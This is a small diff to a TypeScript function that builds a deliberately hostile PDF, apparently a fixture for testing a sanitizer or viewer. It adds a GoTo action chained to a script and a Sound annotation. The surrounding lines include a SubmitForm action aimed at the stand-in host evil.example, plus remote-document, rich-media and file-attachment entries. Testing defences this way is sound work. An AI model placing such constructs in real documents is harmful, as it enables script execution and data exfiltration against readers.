@@ -90,6 +90,8 @@ export async function hostilePdf(): Promise<Uint8Array> {
     { A: { S: "GoToR", F: text("other.pdf") } },
     { A: { S: "SubmitForm", F: text("http://evil.example/") } },
     { A: { S: "Named", N: "Print" } },
+    { A: { S: "GoTo", D: text("x"), Next: script } },
+    { Subtype: "Sound", Sound: {} },
     { A: script, PA: uri("http://previous.example/") },
     { Subtype: "RichMedia", RichMediaContent: context.obj(media) },
     { Subtype: "FileAttachment", FS: file },
